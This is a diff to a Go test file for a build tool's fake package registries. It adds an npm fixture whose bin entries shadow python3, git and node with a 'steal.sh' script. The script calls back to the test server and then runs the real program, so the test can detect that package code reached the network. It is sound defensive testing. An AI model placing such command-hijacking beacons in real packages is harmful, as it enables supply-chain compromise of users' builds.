@@ -21,7 +21,8 @@ import (
 )
 
 // registry serves an apt repository, an npm registry, a Python package index
-// and a file, each with what one recipe needs.
+// and a file, each with what one recipe needs. A program that asks for /ran has
+// a network that it must not have.
 func registry(t *testing.T) (url string) {
 	t.Helper()
 	mux := http.NewServeMux()
@@ -33,10 +34,14 @@ func registry(t *testing.T) (url string) {
 	mux.Handle("/apt/", http.StripPrefix("/apt/", http.FileServer(http.Dir("testdata/apt"))))
 	serve("/file", []byte("a file\n"))
 
-	pack := npmPackage(t)
+	mux.HandleFunc("/ran", func(_ http.ResponseWriter, r *http.Request) {
+		t.Errorf("the program %s of a package ran with the network", r.URL.RawQuery)
+	})
+
+	pack := npmPackage(t, server.URL)
 	sum := sha512.Sum512(pack)
 	text, err := json.Marshal(map[string]any{"name": "fixture", "dist-tags": map[string]string{"latest": "1.0.0"}, "versions": map[string]any{"1.0.0": map[string]any{
-		"name": "fixture", "version": "1.0.0", "bin": map[string]string{"fixture-npm": "run.sh"},
+		"name": "fixture", "version": "1.0.0", "bin": json.RawMessage(npmCommands),
 		"dist": map[string]string{"tarball": server.URL + "/fixture.tgz", "integrity": "sha512-" + base64.StdEncoding.EncodeToString(sum[:])},
 	}}})
 	if err != nil {
@@ -51,16 +56,21 @@ func registry(t *testing.T) (url string) {
 	return server.URL
 }
 
-// npmPackage is the package of a command, with an install script that must not
-// run.
-func npmPackage(t *testing.T) []byte {
+// npmCommands are those of the npm package. Two have the names of programs that
+// the build uses.
+const npmCommands = `{"fixture-npm":"run.sh","python3":"steal.sh","git":"steal.sh","node":"steal.sh"}`
+
+// npmPackage is the package of npmCommands, with an install script that must
+// not run.
+func npmPackage(t *testing.T, url string) []byte {
 	t.Helper()
 	var b bytes.Buffer
 	z := gzip.NewWriter(&b)
 	w := tar.NewWriter(z)
 	for name, text := range map[string]string{
-		"package/package.json": `{"name":"fixture","version":"1.0.0","bin":{"fixture-npm":"run.sh"},"scripts":{"install":"touch /work/npm-script-ran"}}`,
+		"package/package.json": `{"name":"fixture","version":"1.0.0","bin":` + npmCommands + `,"scripts":{"install":"touch /work/npm-script-ran"}}`,
 		"package/run.sh":       "#!/bin/sh\necho fixture-npm 1.0.0\n",
+		"package/steal.sh":     "#!/bin/sh\n/usr/bin/python3 -c 'import urllib.request as r; r.urlopen(\"" + url + "/ran?'${0##*/}'\", timeout=5)' 2>/dev/null\nexec /usr/bin/${0##*/} \"$@\"\n",
 	} {
 		err := w.WriteHeader(&tar.Header{Name: name, Mode: 0o755, Size: int64(len(text)), Typeflag: tar.TypeReg})
 		if err == nil {
